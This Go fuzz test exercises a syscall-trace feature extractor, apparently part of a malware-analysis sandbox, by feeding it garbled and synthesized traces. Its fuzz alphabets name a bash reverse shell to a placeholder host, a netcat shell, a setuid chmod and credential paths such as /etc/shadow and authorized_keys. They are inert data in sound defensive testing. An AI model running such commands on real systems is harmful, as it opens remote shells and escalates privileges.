package argfeat

import (
	"bytes"
	"encoding/binary"
	"math"
	"slices"
	"testing"

	"github.com/scalemalnet/scalemalnet/guest/trace"
)

// FuzzExtract feeds Extract garbled traces two ways: bytes read as a JSONL
// trace (what a hostile guest could get stored), and bytes decoded into
// events over the names, paths and addresses the extractor cares about (to
// reach its state machine: fds, forks, cwd, dups). Whatever the input,
// Extract returns one finite value per column within its scale, the same
// twice.
//
//	go test ./featurizers/argfeat -run '^$' -fuzz FuzzExtract -fuzztime 60s
func FuzzExtract(f *testing.F) {
	f.Add([]byte(`{"window":{"index":0,"start":0,"end":1000,"counts":{"openat":1,"setuid":2},"events":[{"t":1,"pid":88,"tid":88,"nr":257,"name":"openat","ret":3,"path":"/etc/shadow","flags":"O_WRONLY|O_APPEND"}]}}
{"summary":{"outcome":"exited","exit_code":0,"duration_ns":1000,"windows":1,"events":3,"kept":1,"truncated":false,"processes":[{"pid":88,"ppid":0,"start":0,"threads":1,"syscalls":3}]}}
`))
	f.Add([]byte("\x01\x00\x05\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13"))
	f.Add([]byte("\x01" + string(bytes.Repeat([]byte{7, 1, 0, 3, 2, 9, 4}, 40))))
	f.Add([]byte("garbage"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var x *trace.Trace
		if len(b) > 0 && b[0] == 1 {
			x = synth(b[1:])
		} else {
			var err error
			if x, err = trace.ReadJSONLLimits(bytes.NewReader(b), trace.Limits{MaxEvents: 10_000}); err != nil {
				return
			}
		}
		v := Extract(x)
		if len(v) != len(schema) {
			t.Fatalf("%d values for %d columns", len(v), len(schema))
		}
		for i, f := range schema {
			y := v[i]
			bad := math.IsNaN(y) || math.IsInf(y, 0) || y < 0
			switch f.Scale {
			case ScaleBool:
				bad = bad || (y != 0 && y != 1)
			case ScaleRatio:
				bad = bad || y > 1
			case ScaleNum:
				bad = bad || y > maxProcDepth
			case ScaleLog:
				bad = bad || y > math.Log1p(maxCountValue)
			}
			if bad {
				t.Fatalf("%s = %v out of its scale %s", f.Name, y, f.Scale)
			}
		}
		if w := Extract(x); !slices.Equal(v, w) {
			t.Fatal("not deterministic")
		}
	})
}

var (
	fuzzNames = []string{"openat", "creat", "execve", "execveat", "unlink", "rename", "chmod", "fchmod", "chdir", "fchdir",
		"socket", "connect", "bind", "accept", "dup2", "dup", "close", "clone", "fork", "ptrace", "symlink", "sendto",
		"truncate", "setuid", "kill", "mkdir", "fchown", "rmdir"}
	fuzzPaths = []string{"/etc/shadow", "/etc/passwd", "/tmp/x", "x", "../x", "/proc/1/mem", "/proc/self/maps", "/dev/shm/.a",
		"", "?", "/root/.ssh/authorized_keys", "/bin/sh", "/usr/bin/nc", "/memfd:a", ".bash_history", "/etc/cron.d/../shadow"}
	fuzzAddrs = []string{"inet 127.0.0.1:4444", "inet 8.8.8.8:53", "inet6 [::1]:22", "inet6 [fe80::1%2]:80", "unix /run/x",
		"unix", "inet ?", "family 16", "", "inet 0.0.0.0:0"}
	fuzzArgv = [][]string{{"sh", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"}, {"chmod", "4755", "/tmp/x"}, {"env", "python3"},
		{"busybox", "nc", "-e", "/bin/sh"}, nil, {""}, {"chmod", "u+s,+x"}}
)

// synth decodes bytes into a trace: each event takes 7 bytes (name, pid,
// path, path2, ret, fd, addr/argv) over small alphabets, so that events
// refer to each other (same pids, fds, paths).
func synth(b []byte) *trace.Trace {
	w := trace.Window{Index: 0, End: 1 << 40, Counts: map[string]int{}}
	var procs []trace.Process
	for len(b) >= 7 {
		c := b[:7]
		b = b[7:]
		e := trace.Event{T: int64(len(w.Events)), Name: fuzzNames[int(c[0])%len(fuzzNames)], PID: int(c[1]%8) + 1}
		e.Path = fuzzPaths[int(c[2])%len(fuzzPaths)]
		e.Path2 = fuzzPaths[int(c[3])%len(fuzzPaths)]
		e.Ret = int64(int8(c[4]))
		if e.Ret < 0 {
			e.Err = "EACCES"
		}
		fd := int(int8(c[5]))
		e.FD = &fd
		e.Addr = fuzzAddrs[int(c[6])%len(fuzzAddrs)]
		e.Argv = fuzzArgv[int(c[6])%len(fuzzArgv)]
		if c[6]&1 == 0 {
			e.Flags = "O_WRONLY|O_CREAT"
		}
		if e.Name == "clone" || e.Name == "fork" {
			e.Child = int(c[5]%8) + 1
		}
		w.Events = append(w.Events, e)
		w.Counts[e.Name]++
		if c[6]&7 == 7 {
			w.Dropped++
		}
		if c[0]&0x80 != 0 {
			procs = append(procs, trace.Process{PID: int(c[1]%8) + 1, PPID: int(c[2] % 9), Exe: e.Path, Argv: e.Argv, Threads: int(c[3])})
		}
	}
	if len(b) >= 4 {
		w.Counts[fuzzNames[int(b[0])%len(fuzzNames)]] = int(int32(binary.LittleEndian.Uint32(b)))
	}
	return &trace.Trace{Windows: []trace.Window{w}, Summary: trace.Summary{Outcome: trace.OutcomeExited, Events: len(w.Events) + w.Dropped,
		Kept: len(w.Events), Processes: procs}}
}
